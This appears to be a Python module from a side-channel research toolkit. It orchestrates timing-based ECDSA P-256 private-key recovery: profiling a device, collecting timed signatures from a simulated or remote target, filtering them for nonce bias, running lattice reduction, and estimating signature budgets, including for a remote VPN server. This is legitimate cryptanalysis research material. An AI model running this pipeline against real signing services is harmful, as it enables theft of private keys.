"""
End-to-end key recovery experiments.

run_attack goes through three phases: choosing a bias class (profiling a
device whose key is known, unless thresholds are given), collecting timed
signatures from the target, and repeatedly attacking random subsets of the
filtered samples until a candidate key verifies against the public key.
"""

import logging
import math
import time
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Tuple, Union

import numpy as np

from leaklab.attack.extract import extract_keys
from leaklab.attack.filtering import (
    classify,
    filter_yield,
    histogram,
    largest_peak,
    profile,
    sort_fastest,
    transfer_bias_class,
)
from leaklab.attack.hnp import build_basis, build_instance
from leaklab.attack.reduction import reduce_basis
from leaklab.device.simulated import SimulatedDevice
from leaklab.ec.curves import CurvePoint, p256
from leaklab.ec.signing import keygen, keypair_point
from leaklab.errors import BudgetError, ConfigError, InsufficientSamplesError, LeakLabError
from leaklab.schemas import (
    AttackConfig,
    BiasClass,
    BudgetReport,
    ExperimentResult,
    HistogramBin,
    HnpInstance,
    KeyPair,
    LatticeBasis,
    ProfileReport,
    RetryRecord,
    Source,
    Strategy,
    SuccessRow,
    TimedSample,
)
from leaklab.services.client import collect_remote
from leaklab.storage import save_basis, save_instance, write_csv

logger = logging.getLogger(__name__)

ALL_RETRIES_EXHAUSTED = "all retries exhausted"
INSUFFICIENT_SAMPLES = "insufficient filtered samples"


# ==================== SEEDS ====================

@dataclass
class ExperimentSeeds:
    """Independent generators derived from one experiment seed."""

    key: np.random.Generator
    profiling: np.random.Generator
    collection: np.random.Generator
    subsets: np.random.Generator

    @classmethod
    def from_seed(cls, seed: int) -> "ExperimentSeeds":
        children = np.random.SeedSequence(seed).spawn(4)
        return cls(*(np.random.default_rng(child) for child in children))


def target_keypair(config: AttackConfig) -> KeyPair:
    """Key of the simulated target; key_seed pins it independently of seed."""
    curve = p256()
    if config.key_seed is not None:
        return keygen(curve, seed=config.key_seed)
    return keygen(curve, rng=ExperimentSeeds.from_seed(config.seed).key)


# ==================== PHASES ====================

def resolve_keys(
    config: AttackConfig, keypair: Optional[KeyPair], public_key: Optional[CurvePoint]
) -> Tuple[Optional[KeyPair], CurvePoint]:
    """Target key pair (simulated sources only) and the public key used for verification."""
    if config.source != Source.REMOTE and keypair is None and public_key is None:
        keypair = target_keypair(config)
    if public_key is None:
        if keypair is None:
            raise ConfigError("a public key is needed to verify recovered keys")
        public_key = keypair_point(keypair)
    return keypair, public_key


@dataclass
class BiasChoice:
    strategy: Strategy
    bias_class: Optional[BiasClass] = None
    # Largest timing peak of the setting the window was measured in
    reference_peak: Optional[float] = None


def profile_device(config: AttackConfig, rng: np.random.Generator) -> Tuple[ProfileReport, float]:
    """
    Profile a debug device with its own known key.

    The device runs config.profiling_profile when set, else the target's
    profile. Returns the report and the largest peak of the profiling timings.
    """
    curve = p256()
    leak_profile = config.profiling_profile or config.profile
    known = keygen(curve, rng=rng)
    device = SimulatedDevice(config.scheme, leak_profile, known.d, curve=curve, rng=rng, debug=True)
    logger.info(f"Profiling phase: {config.profile_samples} signatures with a known key")
    samples = device.collect(config.profile_samples)
    peak = largest_peak([s.cycles for s in samples], config.peak_bin_width)
    return profile(samples, leak_profile), peak


def choose_bias_class(config: AttackConfig, rng: np.random.Generator) -> BiasChoice:
    """
    Strategy and window for the attack.

    Explicit thresholds win. Otherwise profiling picks the window for the
    assumed bias (or the first recommended one); without any exploitable
    separation only the fastest samples are left to use.
    """
    if config.strategy == Strategy.FASTEST or config.source == Source.PLANTED:
        return BiasChoice(config.strategy)
    if config.bias_class is not None:
        return BiasChoice(Strategy.THRESHOLD, config.bias_class, config.reference_peak_cycles)
    report, peak = profile_device(config, rng)
    if not report.exploitable or not report.recommended:
        logger.warning("No exploitable window found, falling back to the fastest samples")
        return BiasChoice(Strategy.FASTEST)
    bias_class = report.recommended_for(config.assumed_lzb) or report.recommended[0]
    logger.info(
        f"Using window [{bias_class.lower_cycles:.6g}, {bias_class.upper_cycles:.6g}] "
        f"for {bias_class.assumed_lzb}-bit bias"
    )
    return BiasChoice(Strategy.THRESHOLD, bias_class, peak)


def transfer_to_target(
    config: AttackConfig, choice: BiasChoice, samples: Sequence[TimedSample]
) -> Optional[BiasClass]:
    """The chosen window, scaled to the target samples' largest peak when transfer is enabled."""
    if not config.transfer_thresholds or choice.bias_class is None or not samples:
        return choice.bias_class
    if choice.reference_peak is None:
        raise ConfigError("threshold transfer needs the reference setting's largest peak")
    target_peak = largest_peak([s.cycles for s in samples], config.peak_bin_width)
    moved = transfer_bias_class(choice.bias_class, choice.reference_peak, target_peak)
    logger.info(
        f"Peak {choice.reference_peak:.6g} -> {target_peak:.6g}: window moved to "
        f"[{moved.lower_cycles:.6g}, {moved.upper_cycles:.6g}]"
    )
    return moved


def collect_samples(
    config: AttackConfig,
    keypair: Optional[KeyPair],
    rng: np.random.Generator,
    public_key: Optional[CurvePoint] = None,
) -> List[TimedSample]:
    """Timed signatures from the configured source."""
    if config.source == Source.REMOTE:
        return collect_remote(
            config.target,
            config.samples_total,
            freq_hz=config.freq_hz,
            timeout=config.request_timeout,
            noise_sigma=config.net_noise_sigma,
            baseline_cycles=config.baseline_cycles,
            seed=int(rng.integers(0, 2**63)),
            public_key=public_key,
            scheme=config.scheme,
        )
    if keypair is None:
        raise ConfigError("local collection needs the target key pair")
    device = SimulatedDevice(config.scheme, config.profile, keypair.d, curve=p256(), rng=rng)
    if config.source == Source.PLANTED:
        samples = device.collect_biased(config.samples_total, config.assumed_lzb)
        return [s.model_copy(update={"assumed_lzb": config.assumed_lzb}) for s in samples]
    return device.collect(config.samples_total)


def attack_pool(
    samples: Sequence[TimedSample],
    config: AttackConfig,
    strategy: Strategy,
    bias_class: Optional[BiasClass],
    pool_size: Optional[int] = None,
) -> Tuple[List[TimedSample], int]:
    """Filtered samples to draw subsets from, and the bias they are assumed to carry."""
    if config.source == Source.PLANTED:
        return list(samples), config.assumed_lzb
    if strategy == Strategy.THRESHOLD:
        if bias_class is None:
            raise ConfigError("threshold strategy needs a bias class")
        return classify(samples, bias_class), bias_class.assumed_lzb
    size = pool_size or config.fastest_count or config.lattice_dim
    return sort_fastest(samples, size, config.assumed_lzb), config.assumed_lzb


@dataclass
class AttemptOutcome:
    record: RetryRecord
    key: Optional[int] = None
    instance: Optional[HnpInstance] = None
    basis: Optional[LatticeBasis] = None


def attack_subset(
    subset: Sequence[TimedSample],
    lzb: int,
    config: AttackConfig,
    public_key: CurvePoint,
    attempt: int = 0,
) -> AttemptOutcome:
    """Build, reduce and extract for one subset; lattice failures are recorded, not raised."""
    curve = p256()
    started = time.perf_counter()
    record = RetryRecord(attempt=attempt, sample_ids=[s.index for s in subset])
    outcome = AttemptOutcome(record=record)
    try:
        instance = build_instance(
            subset, lzb, curve.n, config.scheme, config.variant, config.recenter
        )
        outcome.instance = instance
        basis = build_basis(instance)
        outcome.basis = basis
        reduced = reduce_basis(basis.rows, config.reduction)
        candidates = extract_keys(reduced.rows, basis, instance, public_key, curve)
        record.candidates = len(candidates)
        if candidates and candidates[0].verified:
            outcome.key = candidates[0].d
            record.success = True
    except LeakLabError as e:
        record.error = f"{type(e).__name__}: {e}"
    record.seconds = time.perf_counter() - started
    return outcome


def draw_subset(
    pool: Sequence[TimedSample], t: int, rng: np.random.Generator, fastest: bool = False
) -> List[TimedSample]:
    if fastest:
        return sort_fastest(pool, t)
    chosen = np.sort(rng.choice(len(pool), size=t, replace=False))
    return [pool[i] for i in chosen]


# ==================== EXPERIMENTS ====================

def run_attack(
    config: AttackConfig,
    keypair: Optional[KeyPair] = None,
    samples: Optional[Sequence[TimedSample]] = None,
    public_key: Optional[CurvePoint] = None,
    artifacts_dir: Optional[Union[str, Path]] = None,
) -> ExperimentResult:
    """
    Run one key recovery experiment.

    Local and planted sources simulate the target with `keypair` (derived from
    the config when omitted). Remote runs need the target's public key.
    Pre-collected samples skip the collection phase. Raises
    InsufficientSamplesError when filtering leaves fewer than lattice_dim
    samples; running out of retries is reported in the result. With
    artifacts_dir the HNP instance and basis of the last attempt are saved
    there as instance.json and basis.txt.
    """
    seeds = ExperimentSeeds.from_seed(config.seed)
    stage_seconds: Dict[str, float] = {}
    keypair, public_key = resolve_keys(config, keypair, public_key)

    started = time.perf_counter()
    choice = choose_bias_class(config, seeds.profiling)
    strategy = choice.strategy
    stage_seconds["profile"] = time.perf_counter() - started

    started = time.perf_counter()
    if samples is None:
        samples = collect_samples(config, keypair, seeds.collection, public_key)
    stage_seconds["collect"] = time.perf_counter() - started

    started = time.perf_counter()
    bias_class = transfer_to_target(config, choice, samples)
    pool, lzb = attack_pool(samples, config, strategy, bias_class)
    stage_seconds["filter"] = time.perf_counter() - started
    t = config.lattice_dim
    if len(pool) < t:
        raise InsufficientSamplesError(f"{INSUFFICIENT_SAMPLES}: {len(pool)} kept, lattice needs {t}")
    if strategy == Strategy.THRESHOLD and config.source != Source.PLANTED and samples:
        logger.info(f"Filter yield {filter_yield(len(pool), len(samples), lzb):.3f} at {lzb}-bit bias")

    result = ExperimentResult(
        success=False,
        signatures_consumed=len(samples),
        filtered_count=len(pool),
        lattice_dim=t,
        assumed_lzb=lzb,
        strategy=strategy,
        seed=config.seed,
    )
    # a pool of exactly t samples has a single subset
    attempts = 1 if len(pool) == t else config.retries
    started = time.perf_counter()
    outcome = None
    for attempt in range(attempts):
        fastest_first = config.subset_policy == "fastest_first" and attempt == 0
        subset = draw_subset(pool, t, seeds.subsets, fastest=fastest_first)
        outcome = attack_subset(subset, lzb, config, public_key, attempt)
        result.retries.append(outcome.record)
        logger.info(
            f"Attempt {attempt + 1}/{attempts}: "
            f"{'key recovered' if outcome.record.success else outcome.record.error or 'no verified key'}"
        )
        if outcome.key is not None:
            result.success = True
            result.recovered_key = outcome.key
            break
    stage_seconds["attack"] = time.perf_counter() - started
    result.stage_seconds = stage_seconds
    if not result.success:
        result.failure_reason = ALL_RETRIES_EXHAUSTED
        logger.warning(f"Key recovery failed: {ALL_RETRIES_EXHAUSTED} ({attempts} attempts)")
    if artifacts_dir is not None and outcome is not None and outcome.instance is not None:
        save_instance(outcome.instance, Path(artifacts_dir) / "instance.json")
        if outcome.basis is not None:
            save_basis(outcome.basis.rows, Path(artifacts_dir) / "basis.txt")
    return result


def _trial(args: Tuple[List[TimedSample], int, int, AttackConfig, CurvePoint, np.random.SeedSequence]) -> bool:
    pool, t, lzb, config, public_key, seed = args
    subset = draw_subset(pool, t, np.random.default_rng(seed))
    return attack_subset(subset, lzb, config, public_key).key is not None


def success_curve(
    config: AttackConfig,
    dims: Sequence[int],
    trials: int = 50,
    workers: int = 1,
    keypair: Optional[KeyPair] = None,
    samples: Optional[Sequence[TimedSample]] = None,
    public_key: Optional[CurvePoint] = None,
) -> List[SuccessRow]:
    """
    Empirical success probability per lattice dimension.

    Samples are collected and filtered once; every trial attacks one fresh
    random subset. Trial seeds depend only on (seed, dim, trial), so results
    do not depend on the number of workers.
    """
    if not dims:
        raise ValueError("dims must not be empty")
    if trials < 1:
        raise ValueError("trials must be >= 1")
    seeds = ExperimentSeeds.from_seed(config.seed)
    keypair, public_key = resolve_keys(config, keypair, public_key)
    choice = choose_bias_class(config, seeds.profiling)
    if samples is None:
        samples = collect_samples(config, keypair, seeds.collection, public_key)
    largest = max(dims)
    bias_class = transfer_to_target(config, choice, samples)
    pool, lzb = attack_pool(samples, config, choice.strategy, bias_class, max(largest, config.fastest_count or 0))
    if len(pool) < largest:
        raise InsufficientSamplesError(f"{INSUFFICIENT_SAMPLES}: {len(pool)} kept, curve needs {largest}")

    trial_seeds = np.random.SeedSequence(config.seed).spawn(len(dims) * trials + 1)[1:]
    tasks = []
    for i, t in enumerate(dims):
        for j in range(trials):
            tasks.append((pool, t, lzb, config, public_key, trial_seeds[i * trials + j]))

    if workers > 1:
        with ProcessPoolExecutor(max_workers=workers) as executor:
            outcomes = list(executor.map(_trial, tasks))
    else:
        outcomes = [_trial(task) for task in tasks]

    rows = []
    for i, t in enumerate(dims):
        successes = sum(outcomes[i * trials:(i + 1) * trials])
        rows.append(SuccessRow(dim=t, trials=trials, successes=successes))
        logger.info(f"t={t}: {successes}/{trials} successful")
    return rows


def save_success_curve(rows: Sequence[SuccessRow], path: Union[str, Path]) -> None:
    write_csv(path, ["dim", "trials", "successes", "probability"],
              ([row.dim, row.trials, row.successes, f"{row.probability:.4f}"] for row in rows))


def emit_histogram(
    samples: Sequence[TimedSample], bin_width: float, path: Optional[Union[str, Path]] = None
) -> List[HistogramBin]:
    """Fixed-width histogram of sample timings, optionally written as CSV."""
    if not samples:
        raise InsufficientSamplesError("cannot build a histogram of no samples")
    centers, counts = histogram([s.cycles for s in samples], bin_width)
    bins = [HistogramBin(center=float(c), count=int(n)) for c, n in zip(centers, counts)]
    if path is not None:
        write_csv(path, ["center", "count"], ([b.center, b.count] for b in bins))
    return bins


# ==================== BUDGETS ====================

def estimate_budget(
    lzb: int,
    lattice_dim: int,
    yield_fraction: Union[float, Fraction] = 1,
    rate_per_minute: Optional[float] = None,
) -> BudgetReport:
    """Signatures needed for lattice_dim kept samples: floor(t * 2^lzb / yield)."""
    ratio = Fraction(yield_fraction).limit_denominator(1_000_000)
    if ratio <= 0:
        raise BudgetError(f"filter yield must be positive, got {yield_fraction}")
    total = math.floor(Fraction(lattice_dim * 2 ** lzb) / ratio)
    return BudgetReport(
        lzb=lzb,
        lattice_dim=lattice_dim,
        filter_yield=float(ratio),
        total_signatures=total,
        rate_per_minute=rate_per_minute,
    )


def budget_report(
    config: AttackConfig,
    result: Optional[ExperimentResult] = None,
    yield_fraction: Optional[Union[float, Fraction]] = None,
) -> BudgetReport:
    """Budget for a config, using the yield a finished run observed when none is given."""
    lzb = config.assumed_lzb
    t = config.lattice_dim
    if result is not None:
        lzb = result.assumed_lzb or lzb
        t = result.lattice_dim or t
        observed = result.strategy == Strategy.THRESHOLD and config.source != Source.PLANTED
        if yield_fraction is None and observed and result.signatures_consumed:
            yield_fraction = filter_yield(result.filtered_count, result.signatures_consumed, lzb)
    if yield_fraction is None:
        yield_fraction = 1
    return estimate_budget(lzb, t, yield_fraction, config.signing_rate_per_minute)


@dataclass(frozen=True)
class ReferenceBudget:
    setting: str
    lzb: int
    lattice_dim: int
    yield_fraction: Fraction
    rate_per_minute: Optional[float]
    published_signatures: int


REFERENCE_BUDGETS: List[ReferenceBudget] = [
    ReferenceBudget("local system, 4-bit", 4, 78, Fraction(1), 385, 1_248),
    ReferenceBudget("unfiltered, 8-bit", 8, 34, Fraction(1), None, 8_704),
    ReferenceBudget("user level, 8-bit", 8, 34, Fraction(53, 855), None, 140_413),
    ReferenceBudget("remote VPN server, 4-bit", 4, 80, Fraction(222, 12_375), 139, 71_351),
    ReferenceBudget("remote VPN server, 8-bit", 8, 34, Fraction(153, 774), 139, 44_032),
]


def reference_budgets() -> List[Tuple[ReferenceBudget, BudgetReport]]:
    return [
        (ref, estimate_budget(ref.lzb, ref.lattice_dim, ref.yield_fraction, ref.rate_per_minute))
        for ref in REFERENCE_BUDGETS
    ]
